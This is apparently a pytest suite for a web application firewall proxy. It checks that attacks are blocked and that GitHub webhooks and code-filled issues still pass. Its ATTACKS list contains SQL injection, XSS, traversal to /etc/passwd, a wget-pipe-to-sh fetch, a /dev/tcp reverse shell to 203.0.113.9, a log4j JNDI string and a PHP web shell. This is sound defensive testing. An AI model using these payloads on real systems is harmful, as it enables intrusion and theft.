"""The proxy keeps attacks out, and lets through what GitHub sends and what people write about code."""

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from aicd_github.testing.node import node_project
from waf_proxy import Proxy, running

ROOT = Path(__file__).parents[1]
JOBS = "/v1/organizations/acme/jobs"
EXCLUDED = (
    ("POST", "/webhooks/github"),
    ("POST", JOBS),
    ("POST", "/console/acme/jobs/new"),
    ("POST", f"{JOBS}/1/plan/send-back"),
    ("POST", f"{JOBS}/1/cancel"),
    ("POST", "/console/acme/jobs/1/send-back"),
    ("PUT", "/v1/organizations/acme/policy"),
    ("POST", "/v1/organizations/acme/policy/dry-run"),
    ("POST", "/v1/organizations/acme/policy/dry-run/commits"),
    ("PUT", "/v1/organizations/acme/secrets/KEY"),
)
"""Where some field may hold anything."""
ATTACKS = {
    "sql union": "1' UNION SELECT username, password FROM users--",
    "sql tautology": "' OR '1'='1' --",
    "sql stacked": "1; DROP TABLE users; --",
    "sql blind": "1 AND SLEEP(5)#",
    "script": "<script>alert(document.cookie)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert(1)>",
    "javascript": "javascript:alert(document.domain)",
    "traversal": "../../../../etc/passwd",
    "windows traversal": "..\\..\\..\\windows\\win.ini",
    "file": "/etc/shadow",
    "command": "; cat /etc/passwd",
    "substitution": "$(wget http://203.0.113.9/x.sh -O- | sh)",
    "pipe": "| /bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "remote file": "http://203.0.113.9/shell.txt?",
    "log4j": "${jndi:ldap://203.0.113.9/a}",
    "php": "<?php system($_GET['c']); ?>",
}
SCANNERS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
)


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
    with running(tmp_path_factory.mktemp("proxy")) as one:
        yield one


def refused(answer: httpx.Response) -> bool:
    """Whether the firewall took it for an attack, and said so as the API says what is wrong."""
    if answer.status_code != 403:
        return False
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert answer.headers["Strict-Transport-Security"]
    problem = answer.json()
    assert problem["code"] == "blocked"
    assert problem["request_id"] == answer.headers["X-Request-Id"]
    return True


def test_attacks_in_query_strings_and_fields_are_refused_and_never_reach_the_api(proxy: Proxy):
    with proxy.client(1) as client:
        through = []
        for name, text in ATTACKS.items():
            tries = {
                "query": client.get(f"{JOBS}?q={quote(text)}"),
                "name of an organization": client.post("/v1/organizations", json={"slug": "acme", "name": text}),
                "another field of a job": client.post(JOBS, json={"issue": "Fix it.", "base_branch": text}),
                "form": client.post("/console/acme/keys", data={"name": text}),
            }
            through += [f"{name}, {place}" for place, answer in tries.items() if not refused(answer)]
    assert not through
    assert not proxy.upstream.seen


def test_where_a_field_may_hold_anything_the_query_string_may_not(proxy: Proxy):
    with proxy.client(2) as client:
        for method, path in EXCLUDED:
            for text in (ATTACKS["sql union"], ATTACKS["script"], ATTACKS["traversal"], ATTACKS["command"]):
                for name in ("q", "payload", "issue", "json.issue", "comment", "json.value"):
                    assert refused(client.request(method, f"{path}?{name}={quote(text)}", json={"issue": "ok"}))
            assert refused(client.get(f"{path}?issue={quote(ATTACKS['script'])}&json.issue=%3Cscript%3E"))
    assert not proxy.upstream.seen


def test_scanners_paths_and_strange_requests_are_refused(proxy: Proxy):
    with proxy.client(3) as client:
        assert all(refused(client.get(JOBS, headers={"User-Agent": scanner})) for scanner in SCANNERS)
        assert refused(client.get("/v1/organizations/%2e%2e/%2e%2e/etc/passwd"))
        beyond = client.get("/v1/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
        assert (beyond.status_code, beyond.json()["code"]) == (400, "bad_request")
        assert refused(client.get("/.env"))
        assert refused(client.get("/.git/config"))
        assert refused(client.request("TRACE", "/v1/me")) or client.request("TRACE", "/v1/me").status_code == 405
        assert client.post(JOBS, content=b'{"issue": ', headers={"Content-Type": "application/json"}).status_code == 400
        assert refused(client.post(JOBS, content=b"<x/>", headers={"Content-Type": "text/plain"}))
        assert refused(client.get("/v1/me", headers={"Cookie": "__Host-aicd_session=<script>alert(1)</script>"}))
    assert not proxy.upstream.seen


def test_all_of_githubs_example_payloads_come_through_unchanged(proxy: Proxy):
    folder = node_project(ROOT / "tests" / "node", ROOT / ".tools") / "node_modules" / "@octokit" / "webhooks-examples"
    files = sorted(folder.glob("*/index.json"))
    examples = [
        (event["name"], payload)
        for file in files
        for event in json.loads(file.read_bytes())
        for payload in event["examples"]
    ]
    assert len(examples) > 300
    headers = {"User-Agent": "GitHub-Hookshot/044aadd", "Accept": "*/*", "X-Hub-Signature-256": "sha256=" + "0" * 64}
    refusals = []
    with proxy.client(4) as client:
        for event, payload in examples:
            sent = {**headers, "X-GitHub-Event": event, "X-GitHub-Delivery": "72d3162e-cc78-11e3-81ab-4c9367dc0958"}
            text = json.dumps(payload)
            as_json = client.post(
                "/webhooks/github", content=text, headers={**sent, "Content-Type": "application/json"}
            )
            body = proxy.upstream.seen[-1][3] if proxy.upstream.seen else b""
            as_form = client.post("/webhooks/github", data={"payload": text}, headers=sent)
            if as_json.status_code != 200 or as_form.status_code != 200 or body != text.encode():
                refusals.append((event, payload.get("action"), as_json.status_code, as_form.status_code))
    assert not refusals
    proxy.upstream.seen.clear()


def issue_texts() -> list[str]:
    """Attacks that somebody reports, and this repository's own files, as text in an issue."""
    suffixes = {".py", ".md", ".sh", ".html", ".js", ".conf", ".toml", ".sql", ".yml"}
    places = ("docs", "scripts", "tests", "docker")
    files = [path for place in places for path in sorted((ROOT / place).rglob("*")) if path.suffix in suffixes]
    fenced = [f"It fails:\n\n```\n{path.read_text()}\n```\n" for path in files if path.stat().st_size < 200_000]
    assert len(fenced) > 100
    return [*ATTACKS.values(), *fenced]


def test_issues_patches_comments_and_policies_full_of_code_come_through(proxy: Proxy):
    refusals = []
    for number, text in enumerate(issue_texts()):
        with proxy.client(10 + number % 200) as client:
            answers = [
                client.post(JOBS, json={"repository_id": "0198c2f0-8f5e-7cc1-a7e5-3d3f5a1b2c3d", "issue": text}),
                client.post("/console/acme/jobs/new", data={"issue": text, "csrf": "a" * 43}),
            ]
            if number < len(ATTACKS) + 20:
                answers += [
                    client.post(f"{JOBS}/1/plan/send-back", json={"comment": text[:10_000]}),
                    client.post("/console/acme/jobs/1/send-back", data={"comment": text[:10_000]}),
                    client.post(f"{JOBS}/1/cancel", json={"reason": text[:500]}),
                    client.put("/v1/organizations/acme/policy", json={"rules": {"protected_paths": [text]}}),
                    client.post("/v1/organizations/acme/policy/dry-run", json={"patch": text}),
                    client.post("/v1/organizations/acme/policy/dry-run/commits", json={"rules": {"custom": text}}),
                    client.post("/console/acme/policy/try", data={"patch": text}),
                    client.put("/v1/organizations/acme/secrets/KEY", json={"value": text}),
                ]
            refusals += [(text[:80], str(answer.url), answer.text) for answer in answers if answer.status_code != 200]
    assert not refusals
    proxy.upstream.seen.clear()


def test_ordinary_requests_come_through_and_nobody_says_who_he_is(proxy: Proxy):
    with proxy.client(5) as client:
        said = {
            "X-Forwarded-For": "203.0.113.9",
            "X-Forwarded-Proto": "http",
            "Forwarded": "for=203.0.113.9",
            "X-Request-Id": "mine-1",
            "Authorization": "Bearer aicd_key_" + "a" * 40,
        }
        for method in ("GET", "POST", "PUT", "PATCH", "DELETE"):
            answer = client.request(method, "/v1/organizations/acme/members/1?limit=20&sort=-created_at", headers=said)
            assert answer.status_code == 200
        source = {"source": "https://203.0.113.9/acme/shop.git"}
        assert client.post("/v1/organizations/acme/repositories", json=source).status_code == 200
        back = "/v1/auth/github/login?return_to=https%3A%2F%2Fapp.example.com%2Fjobs"
        assert client.get(back).status_code == 200
    headers = proxy.upstream.seen[0][2]
    assert headers["x-forwarded-for"] == "127.0.9.5"
    assert headers["x-forwarded-proto"] == "https"
    assert "forwarded" not in headers
    assert headers["x-request-id"] == "mine-1"
    proxy.upstream.seen.clear()


def test_figures_are_behind_no_address(proxy: Proxy):
    with proxy.client(6) as client:
        for path in ("/metrics", "/metrics/", "/metrics?x=1", "//metrics", "/v1/../metrics", "/%6detrics"):
            answer = client.request("GET", f"https://127.0.0.1:{proxy.tls_port}{path}")
            assert answer.status_code == 404, path
            assert answer.json()["code"] == "not_found"
    assert not proxy.upstream.seen


def test_bodies_are_bounded_by_address(proxy: Proxy):
    with proxy.client(7) as client:
        assert client.post("/v1/organizations", content=b"x" * 1_100_000).status_code == 413
        long = json.dumps({"issue": "word " * 1_600_000})
        assert client.post(JOBS, content=long, headers={"Content-Type": "application/json"}).status_code == 200
        answer = client.post("/webhooks/github", content=b"x" * 26_300_000)
        assert (answer.status_code, answer.json()["code"]) == (413, "body_too_large")
    proxy.upstream.seen.clear()


def test_one_address_cannot_ask_without_end_and_another_still_can(proxy: Proxy):
    asks = b"GET /v1/me HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nUser-Agent: test\r\n\r\n"
    plain = socket.create_connection(("127.0.0.1", proxy.tls_port), source_address=("127.0.9.8", 0))
    with plain, proxy.trust().wrap_socket(plain, server_hostname="localhost") as connection:
        answered = b""
        for _ in range(50):  # 50 times 100 requests; 151 in a second are already too many
            connection.sendall(asks * 100)
            while answered.count(b"HTTP/1.1 ") % 100 or not answered.endswith((b"ok", b"}")):
                answered += connection.recv(100_000)
            if b"HTTP/1.1 429 " in answered:
                break
            answered = b""
    assert b"HTTP/1.1 429 " in answered
    assert b"Retry-After: 1" in answered
    with proxy.client(9) as client:
        assert client.get("/v1/me").status_code == 200
    proxy.upstream.seen.clear()


def test_a_stream_is_passed_on_as_it_comes_in(proxy: Proxy):
    proxy.upstream.go_on.clear()
    with proxy.client(8) as client, client.stream("GET", f"{JOBS}/1/stream") as answer:
        lines = answer.iter_lines()
        assert next(lines) == "data: first"
        assert not proxy.upstream.go_on.is_set(), "the first event is only here once the second was sent"
        proxy.upstream.go_on.set()
        assert [line for line in lines if line] == ["data: second"]
    proxy.upstream.seen.clear()


def test_an_upgraded_connection_carries_both_ways(proxy: Proxy):
    plain = socket.create_connection(("127.0.0.1", proxy.tls_port))
    with plain, proxy.trust().wrap_socket(plain, server_hostname="localhost") as connection:
        connection.sendall(
            b"GET /v1/live HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nUser-Agent: test\r\nUpgrade: websocket\r\n"
            b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        got = b""
        while b"\r\n\r\n" not in got:
            got += connection.recv(1000)
        assert got.startswith(b"HTTP/1.1 101 ")
        for said in (b"\x81\x05hello", b"\x81\x05again"):
            connection.sendall(said)
            assert connection.recv(100) == said
    proxy.upstream.seen.clear()


def test_port_80_only_leads_to_tls_and_proves_certificates(proxy: Proxy):
    challenge = proxy.certificate.parent / "acme/.well-known/acme-challenge"
    challenge.mkdir(parents=True)
    (challenge / "token").write_text("proof")
    with httpx.Client(base_url=f"http://127.0.0.1:{proxy.plain_port}") as client:
        answer = client.get("/login?return_to=/", headers={"Host": "aicd.example.com"})
        assert (answer.status_code, answer.headers["Location"]) == (308, "https://aicd.example.com/login?return_to=/")
        assert client.get("/.well-known/acme-challenge/token").text == "proof"
        assert "nginx/" not in answer.text
